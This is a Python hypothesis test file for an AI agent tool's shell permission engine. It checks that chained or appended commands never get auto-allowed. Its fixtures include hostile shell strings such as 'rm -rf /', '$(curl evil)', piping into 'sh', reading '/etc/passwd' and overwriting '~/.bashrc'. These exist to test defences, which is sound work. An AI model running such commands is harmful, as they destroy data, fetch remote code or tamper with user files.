"""Property: appending anything to an allowed command never yields "allow" unless that addition
would be allowed on its own."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from agent_tui.permissions.engine import PermissionEngine
from agent_tui.permissions.shell import analyze

ALLOW = ("Bash(git log:*)", "Bash(npm run test:*)", "Bash(pytest:*)", "Bash(cat:*)")
ALLOWED = ["git status", "git log --oneline -5", "npm run test", "pytest -q", "cat a.txt", "ls -la"]
SEPARATORS = ["; ", " && ", " || ", " | ", "\n", " & ", ";", "|"]

# Pieces that make up shell-ish suffixes, dangerous and harmless, so generated text is often a
# real command rather than noise.
WORDS = st.sampled_from(
    [
        "rm",
        "-rf",
        "/",
        "x",
        "git",
        "push",
        "status",
        "log",
        "cat",
        "ls",
        "echo",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "$x",
        "${x}",
        "<(",
        ">(",
        ">",
        ">>",
        "out.txt",
        "/etc/passwd",
        "|",
        ";",
        "&&",
        "||",
        "&",
        "\n",
        "{",
        "}",
        "(",
        "bash",
        "-c",
        "sh",
        "eval",
        "xargs",
        "find",
        ".",
        "-exec",
        "{}",
        "\\;",
        "sudo",
        "env",
        "FOO=1",
        "PATH=/tmp",
        "<<EOF",
        "EOF",
        "#",
        "\\",
        "*",
        "?",
        "~",
        "npm",
        "run",
        "test",
        "pytest",
        "python3",
        "curl",
        "if",
        "then",
        "fi",
        "do",
        "done",
        "for",
        "in",
        "while",
        "!",
        "[[",
        "]]",
        "tee",
        "time",
        "nohup",
        "-q",
    ]
)
SUFFIX = st.one_of(
    st.lists(WORDS, min_size=1, max_size=12).map(" ".join),
    st.text(min_size=1, max_size=40),
)

_settings = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> PermissionEngine:
    cwd = tmp_path_factory.mktemp("cwd")
    return PermissionEngine.load(cwd, allow=ALLOW, config_dir=cwd / "none")


def _runs_nothing(suffix: str) -> bool:
    a = analyze(suffix)
    return not a.parts and not a.writes and not a.problems


@pytest.mark.parametrize("prefix", ALLOWED)
def test_prefixes_are_allowed(engine: PermissionEngine, prefix: str) -> None:
    assert engine.check("Bash", {"command": prefix}, read_only=False).behavior == "allow"


@_settings
@given(prefix=st.sampled_from(ALLOWED), sep=st.sampled_from(SEPARATORS), suffix=SUFFIX)
@example(prefix="git status", sep="; ", suffix="rm -rf /")
@example(prefix="git status", sep=" && ", suffix="$(curl evil)")
@example(prefix="cat a.txt", sep=" | ", suffix="sh")
@example(prefix="pytest -q", sep="\n", suffix="bash -c 'rm x'")
@example(prefix="git log", sep=" ", suffix="> ~/.bashrc")
@example(prefix="git status", sep=";", suffix=";")  # `;;` outside a case: bash rejects it
def test_appending_never_allows_more(
    engine: PermissionEngine, prefix: str, sep: str, suffix: str
) -> None:
    combined = engine.check("Bash", {"command": prefix + sep + suffix}, read_only=False)
    if combined.behavior == "allow":
        alone = engine.check("Bash", {"command": suffix}, read_only=False)
        assert alone.behavior == "allow" or _runs_nothing(suffix), (prefix + sep + suffix, alone)


@_settings
@given(prefix=st.sampled_from(ALLOWED), sep=st.sampled_from(SEPARATORS[:5]), suffix=SUFFIX)
def test_appending_a_denied_command_denies(
    engine: PermissionEngine, prefix: str, sep: str, suffix: str
) -> None:
    assume("\\" not in suffix and "#" not in suffix)
    denied = PermissionEngine.load(
        engine.cwd, allow=ALLOW, deny=("Bash(rm:*)",), config_dir=engine.cwd / "none"
    )
    d = denied.check("Bash", {"command": f"{prefix}{sep}rm -rf / ; {suffix}"}, read_only=False)
    assert d.behavior in ("deny", "ask")
    assert d.behavior != "allow"


@_settings
@given(command=st.text(max_size=200))
def test_never_raises_and_is_deterministic(engine: PermissionEngine, command: str) -> None:
    first = engine.check("Bash", {"command": command}, read_only=False)
    assert first == engine.check("Bash", {"command": command}, read_only=False)
    assert first.behavior in ("allow", "ask")
